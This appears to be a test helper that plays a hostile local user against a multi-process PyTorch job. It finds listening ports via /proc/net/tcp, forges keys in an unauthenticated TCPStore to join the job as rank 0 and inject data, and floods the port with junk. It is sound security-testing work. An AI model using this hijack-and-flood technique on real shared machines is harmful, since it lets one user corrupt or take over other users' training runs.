"""Another user of the machine, who tries to get into a run of several processes.

It is started as root, since it needs torch, and becomes user 65534 before it does anything. Of
the ports that every user finds in /proc/net/tcp it attacks those that the test tells, so that
other runs on this machine are spared. It ends when its input does.
"""

import base64
import contextlib
import os
import socket
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import torch
import torch.distributed as dist
from torch.distributed import PrefixStore, TCPStore  # pyright: ignore[reportPrivateImportUsage]

NOBODY = 65534
LISTENING = "0A"
LOOPBACK = {"0100007F", "00000000000000000000000001000000", "0000000000000000FFFF00000100007F"}
"""127.0.0.1, ::1 and ::ffff:127.0.0.1, as /proc writes them."""


def listening(process: str = "self") -> set[tuple[str, int, str]]:
    """Every listening socket of this machine, of whichever user: address, port and inode."""
    found = set[tuple[str, int, str]]()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc", process, "net", table).read_text().splitlines()[1:]:
            _, local, _, state, *rest = line.split()
            address, port = local.split(":")
            if state == LISTENING:
                found.add((address, int(port, 16), rest[5]))
    return found


def listening_sockets(pid: int) -> set[tuple[str, int]]:
    """Address and port of the listening sockets of one process, which its user or root sees."""
    links: list[str] = []
    for path in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):  # it has been closed
            links.append(str(path.readlink()))
    sockets = listening(str(pid))
    return {(address, port) for address, port, inode in sockets if f"socket:[{inode}]" in links}


def say(text: str) -> None:
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


def overwrite(port: int, content: bytes) -> None:
    """Writes all that workers listen to, then joins them as process 0 and sends ``content``."""
    inner = TCPStore("127.0.0.1", port, None, is_master=False, timeout=timedelta(seconds=3))
    store = PrefixStore("datadistill", inner)
    for key in ("here/0", "here/1", "ready/1"):
        store.set(key, "yes")
    store.set("begun", str(len(content)))
    say("written")
    dist.init_process_group(
        "gloo",
        store=PrefixStore("group", store),
        rank=0,
        world_size=2,
        timeout=timedelta(seconds=60),
    )
    dist.broadcast(torch.frombuffer(bytearray(content), dtype=torch.uint8), 0)
    time.sleep(5)


def disturb(port: int) -> None:
    """Connects to a port and sends what gloo could take for a process, then nonsense."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as other:
        for junk in (bytes(8), b"\xff" * 8, os.urandom(4096)):
            other.sendall(junk)
        time.sleep(0.05)


def main() -> None:
    content = base64.b64decode(sys.stdin.readline())
    os.environ["GLOO_SOCKET_IFNAME"] = "lo"
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    say("ready")
    for line in sys.stdin:
        port = int(line)
        assert port in {seen for _, seen, _ in listening()}
        for do in (attack, annoy):
            threading.Thread(target=do, args=(port, content), daemon=True).start()
    os._exit(0)


def annoy(port: int, _content: bytes) -> None:
    while True:
        disturb(port)
        time.sleep(0.02)


def attack(port: int, content: bytes) -> None:
    try:
        overwrite(port, content)
    except Exception as error:
        say(f"failed: {error}")


if __name__ == "__main__":
    main()
